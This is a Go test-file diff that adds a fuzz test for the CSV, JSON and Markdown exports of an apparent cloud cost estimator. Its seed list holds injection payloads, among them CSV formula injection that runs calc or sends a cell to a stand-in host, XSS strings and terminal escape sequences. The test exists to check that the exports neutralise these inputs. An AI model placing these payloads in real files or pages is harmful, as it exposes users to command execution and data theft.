@@ -3,8 +3,10 @@ package page
 import (
 	"encoding/csv"
 	"encoding/json"
+	"slices"
 	"strconv"
 	"strings"
+	"sync"
 	"testing"
 
 	planner "rightsize/estimator/plan"
@@ -103,4 +105,85 @@ func TestExportMarkdown(t *testing.T) {
 	if got := MDEscape("x|y <img> ![t](u)\n"); got != `x\|y &lt;img&gt; \!\[t\](u) ` {
 		t.Errorf("MDEscape: %q", got)
 	}
+}
+
+// exportSeeds are the texts FuzzExports starts from: formula starts
+// (OWASP "CSV Injection"), Markdown table, link, image and HTML breakers,
+// JSON breakers, line and terminal controls.
+var exportSeeds = []string{
+	"=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")", "+1+1", "-1+1", "@SUM(1+1)", "\t=1", "\r=1", "\n=1",
+	"a|b", "a\\|b", "[x](javascript:alert(1))", "![x](http://x.example/p.png)", "<img src=x onerror=alert(1)>", "<script>x</script>",
+	"`x`", "**x**", "# x", "a\nb", "a\r\nb", "\"},{\"x\":\"", "\\", "\x1b]0;owned\a\x1b[2J", "rtl\u202eevil\u2028line\u0085nel",
+	"bad\xffutf8", "nul\x00byte", "", " ", "'", "&amp;", "x,y\"z",
+}
+
+// FuzzExports puts one text in everything a price sheet or a link can
+// name in the exports (a plan's provider, instance type, currency, date
+// and source, a pick's instance type and source, the custom model's
+// name) and checks each export: the CSV parses to the same records with
+// no cell a spreadsheet runs as a formula, the JSON is valid and gives
+// the text back, the Markdown has the same lines and table cells as with
+// a benign text, and no raw HTML, link or image.
+func FuzzExports(f *testing.F) {
+	for _, s := range exportSeeds {
+		f.Add(s)
+	}
+	var base ViewIn
+	var once sync.Once
+	with := func(s string) ViewIn {
+		in := base
+		in.Plan.Cands, in.Plan.Picks = slices.Clone(in.Plan.Cands), slices.Clone(in.Plan.Picks)
+		o := *in.Plan.Cands[0].Offer
+		o.Provider, o.InstanceType, o.Currency, o.AsOf, o.Source = s, s, s, s, s
+		in.Plan.Cands[0].Offer = &o
+		p := *in.Plan.Picks[0].Offer
+		p.InstanceType, p.Source = s, s
+		in.Plan.Picks[0].Offer = &p
+		in.Job.Model.ID, in.CustomName = CustomModelID, s
+		return in
+	}
+	cells := func(line string) int { return strings.Count(strings.ReplaceAll(line, `\|`, ""), "|") }
+	f.Fuzz(func(t *testing.T, s string) {
+		once.Do(func() { _, base = viewOf(t, "rps=5", nil) })
+		if len(base.Plan.Cands) == 0 || len(base.Plan.Picks) == 0 {
+			t.Fatal("no plans")
+		}
+		in := with(s)
+		recs, err := csv.NewReader(strings.NewReader(ExportCSV(in))).ReadAll()
+		if err != nil || len(recs) != 1+len(in.Plan.Picks)+len(in.Plan.Cands) {
+			t.Fatalf("%q: CSV %d records, %v", s, len(recs), err)
+		}
+		for _, rec := range recs {
+			for i, c := range rec {
+				if _, err := strconv.ParseFloat(c, 64); err != nil && c != "" && strings.ContainsRune("=+-@\t\r\n", rune(c[0])) {
+					t.Fatalf("%q: CSV %s cell %q", s, recs[0][i], c)
+				}
+			}
+		}
+		var doc struct {
+			Offers []struct {
+				Source string `json:"source"`
+			} `json:"offers"`
+		}
+		if err := json.Unmarshal([]byte(ExportJSON(in, "m=x")), &doc); err != nil {
+			t.Fatalf("%q: JSON: %v", s, err)
+		}
+		if got := doc.Offers[len(in.Plan.Picks)].Source; got != strings.ToValidUTF8(s, "\uFFFD") {
+			t.Errorf("%q: JSON source %q", s, got)
+		}
+		md, want := ExportMarkdown(in), ExportMarkdown(with("x"))
+		ml, wl := strings.Split(md, "\n"), strings.Split(want, "\n")
+		if len(ml) != len(wl) {
+			t.Fatalf("%q: Markdown %d lines, %d with a benign text:\n%s", s, len(ml), len(wl), md)
+		}
+		for i := range ml {
+			if cells(ml[i]) != cells(wl[i]) {
+				t.Errorf("%q: Markdown line %d has %d cells, %d with a benign text: %q", s, i, cells(ml[i]), cells(wl[i]), ml[i])
+			}
+		}
+		if plain := strings.ReplaceAll(strings.ReplaceAll(md, `\[`, ""), `\]`, ""); strings.ContainsAny(md, "<>") && !strings.Contains(want, "<") ||
+			strings.Contains(plain, "](") {
+			t.Errorf("%q: Markdown has HTML or a link:\n%s", s, md)
+		}
+	})
 }
